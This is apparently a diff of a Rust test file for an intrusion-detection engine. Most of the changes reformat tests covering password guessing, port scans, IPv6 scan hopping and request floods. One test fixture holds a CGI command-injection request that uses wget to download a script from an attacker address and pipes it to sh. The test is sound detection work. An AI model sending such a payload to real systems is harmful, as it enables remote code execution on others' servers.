@@ -1,6 +1,5 @@
 //! What the judges must say of the people and the attackers that an office knows.
 
-
 use crate::common::{Act, Did, T0, addr, cases_of, get, judge, judge_with, login, touch};
 use ward_kernel::{Rung, Time};
 use ward_records::Touch;
@@ -79,7 +78,12 @@ fn guessing_by_many_sources_is_one_case() {
         }
     }
     for n in 0..100_u32 {
-        acts.push(login(n * 700, &format!("192.0.2.{}", n % 100 + 1), &format!("clerk{n:02}"), true));
+        acts.push(login(
+            n * 700,
+            &format!("192.0.2.{}", n % 100 + 1),
+            &format!("clerk{n:02}"),
+            true,
+        ));
     }
     let report = judge(&acts);
     let kinds: Vec<_> = report.cases.iter().map(|c| (c.kind, c.source_count)).collect();
@@ -91,7 +95,13 @@ fn scans_by_shape() {
     let mut acts = Vec::new();
     for n in 1..60_u32 {
         acts.push(touch(n, "203.0.113.1", &format!("198.51.100.{n}"), 22, Touch::Failed));
-        acts.push(touch(n, "203.0.113.2", "198.51.100.10", u16::try_from(n).unwrap(), Touch::Failed));
+        acts.push(touch(
+            n,
+            "203.0.113.2",
+            "198.51.100.10",
+            u16::try_from(n).unwrap(),
+            Touch::Failed,
+        ));
         acts.push(touch(n * 900, "203.0.113.3", &format!("198.51.100.{n}"), 443, Touch::Failed));
         for port in 20..26 {
             acts.push(touch(n, "203.0.113.4", &format!("198.51.100.{n}"), port, Touch::Failed));
@@ -111,7 +121,15 @@ fn scans_by_shape() {
 #[test]
 fn hopping_through_a_v6_network_is_one_scan() {
     let acts: Vec<Act> = (1..40_u32)
-        .map(|n| touch(n, &format!("2001:db8:bad:1::{n:x}"), &format!("2001:db8:100::{n:x}"), 443, Touch::Failed))
+        .map(|n| {
+            touch(
+                n,
+                &format!("2001:db8:bad:1::{n:x}"),
+                &format!("2001:db8:100::{n:x}"),
+                443,
+                Touch::Failed,
+            )
+        })
         .collect();
     let report = judge(&acts);
     assert_eq!(report.cases.len(), 1);
@@ -153,7 +171,8 @@ fn a_flood_is_named_and_a_crowd_is_not() {
     }
     for n in 0..3_000_u32 {
         let by = format!("192.0.{}.{}", n / 200, n % 200 + 1);
-        for (k, page) in ["/", "/results", "/static/app.css", "/static/seal.png"].iter().enumerate() {
+        for (k, page) in ["/", "/results", "/static/app.css", "/static/seal.png"].iter().enumerate()
+        {
             let k = u32::try_from(k).unwrap();
             let did = Did::Get { target: (*page).into(), status: 200, referrer: k > 0 };
             acts.push(Act { at: T0 + 60_000 + n / 5 + k, by: addr(&by), did });
@@ -213,7 +232,8 @@ fn silence_takes_the_sentence_away() {
 
 #[test]
 fn an_exploit_that_worked_and_called_back_is_access() {
-    let mut acts = vec![get(100, "203.0.113.66", "/cgi-bin/t.cgi?x=;wget%20http://203.0.113.66/x|sh", 200)];
+    let mut acts =
+        vec![get(100, "203.0.113.66", "/cgi-bin/t.cgi?x=;wget%20http://203.0.113.66/x|sh", 200)];
     acts.push(touch(130, "10.20.0.5", "203.0.113.66", 80, Touch::Answered));
     let cases = cases_of(&judge(&acts), "203.0.113.66");
     assert_eq!(cases, [("web.injection", Rung::Access)]);
